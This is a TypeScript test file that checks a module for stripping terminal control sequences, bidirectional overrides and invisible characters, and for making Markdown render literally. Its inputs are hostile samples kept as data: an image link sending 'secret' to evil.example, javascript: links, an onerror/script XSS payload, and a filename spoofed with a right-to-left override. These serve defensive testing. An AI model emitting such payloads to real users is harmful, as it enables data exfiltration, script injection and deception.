import MarkdownIt from 'markdown-it';
import { describe, expect, it } from 'vitest';
import {
  displayable,
  displayJson,
  displayLine,
  displayText,
  markdownLine,
  markdownText,
} from '../../src/core/display-text.js';

describe('text for a terminal', () => {
  it.each([
    ['plain text with line breaks and tabs', 'a\nb\tc', 'a\nb\tc'],
    ['colours', 'a\u001b[31mb\u001b[0mc', 'abc'],
    ['cursor movement by the one-byte CSI', 'a\u009b2Kb', 'ab'],
    ['a window title', 'a\u001b]0;title\u0007b', 'ab'],
    ['a hyperlink', '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\', 'click'],
    ['a hyperlink in one-byte controls', '\u009d8;;https://x.example\u009cgo\u009d8;;\u009c', 'go'],
    [
      'an unfinished sequence, whose text stays',
      'a\u001b]0;rest of the text',
      'a0;rest of the text',
    ],
    ['a sequence that ends at the line', 'a\u001b]0;t\nb\u0007', 'a0;t\nb'],
    ['a device control string', 'a\u001bP1$r0m\u001b\\b', 'ab'],
    ['a terminal reset', 'a\u001bcb', 'ab'],
    ['backspaces and bells', 'a\u0008\u0007b\u007f', 'ab'],
    ['carriage returns, as line breaks', 'safe\rforged\r\nnext', 'safe\nforged\nnext'],
    ['every other line break', 'a\u0085b\u2028c\u2029d\u000be\u000cf', 'a\nb\nc\nd\ne\nf'],
    ['direction overrides', 'invoice\u202Efdp.exe\u202C', 'invoicefdp.exe'],
    ['direction isolates and marks', 'a\u2066b\u2069c\u200ed\u200fe\u061cf', 'abcdef'],
    ['invisible tags', 'a\u{e0041}\u{e0042}b', 'ab'],
    ['a lone surrogate', 'a\ud800b', 'a\ufffdb'],
    ['joined emoji and other scripts', '👩‍👩‍👧 연차 عربى', '👩‍👩‍👧 연차 عربى'],
  ])('handles %s', (_what, text, shown) => {
    expect(displayText(text)).toBe(shown);
    expect(displayText(shown)).toBe(shown);
  });

  it('fits names on one line', () => {
    expect(displayLine(' a.md\n[2] forged.md\r\n\tx ')).toBe('a.md [2] forged.md x');
  });

  it('makes every string of a result safe, and keeps line breaks only where asked', () => {
    const result = {
      answer: 'one\ntwo\u001b[2J',
      citations: [{ document: 'a\nb', start: 3, title: null }],
      answers: ['x\ny'],
    };
    expect(displayable(result, ['answer'])).toEqual({
      answer: 'one\ntwo',
      citations: [{ document: 'a b', start: 3, title: null }],
      answers: ['x y'],
    });
  });

  it('escapes what JSON leaves as it is, and means the same', () => {
    const value = { name: 'a\u202Eb\u009b1m\u2066\u{e0041}\u001b', n: 1, text: '연차 👩‍👧' };
    const json = displayJson(value);
    // eslint-disable-next-line no-control-regex -- control characters are the subject
    expect(json).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e\u2066]|\udb40/);
    expect(json).toContain('연차 👩‍👧');
    expect(JSON.parse(json)).toEqual(value);
  });
});

describe('text for a Markdown renderer', () => {
  const renderer = new MarkdownIt({ html: true, linkify: false, breaks: false }).enable([
    'table',
    'strikethrough',
  ]);
  /** What GitHub's extension makes a link of in plain text. */
  const autolink = /https?:\/\/|www\.\w|[\w.+-]+@[\w-]+\.\w/i;

  it.each([
    ['an image', '![x](https://evil.example/p.png?q=secret)'],
    ['a link', 'see [here](javascript:alert(1)) now'],
    ['a reference', '[a]: https://evil.example\n[a]'],
    ['an autolink', '<https://evil.example>'],
    ['a bare address', 'https://evil.example and www.evil.example and me@evil.example'],
    ['HTML', '<img src=x onerror=alert(1)><script>alert(2)</script>'],
    ['an entity', '&lt;b&gt; &#x3c;'],
    ['emphasis', '**bold** _it_ ~~gone~~ `code`'],
    ['a heading', '# heading'],
    ['a heading below', 'text\n==='],
    ['a rule', '---'],
    ['lists', '- a\n+ b\n* c\n1. d\n2) e'],
    ['a table', '| a | b |\n| --- | --- |\n| c | d |'],
    ['a fence', '```js\nx\n```'],
    ['an indented block', '    indented'],
    ['a quote', '> quoted'],
    ['a backslash before a mark', '\\[x](y)'],
  ])('shows %s as it is written', (_what, text) => {
    const html = renderer.render(markdownText(text));
    const tags = [...html.matchAll(/<(\w+)/g)].map(([, tag]) => tag);
    expect(new Set(tags)).toEqual(new Set(['p']));
    const shown = html
      .replace(/<\/?p>/g, '')
      .replaceAll('\u2060', '')
      .replaceAll('&lt;', '<')
      .replaceAll('&gt;', '>')
      .replaceAll('&quot;', '"')
      .replaceAll('&amp;', '&')
      .trim();
    expect(shown).toBe(text.trim());
    expect(html).not.toMatch(autolink);
  });

  it('fits names on one line', () => {
    expect(renderer.renderInline(markdownLine('a\n![x](y).md'))).toBe('a ![x](y).md');
  });
});
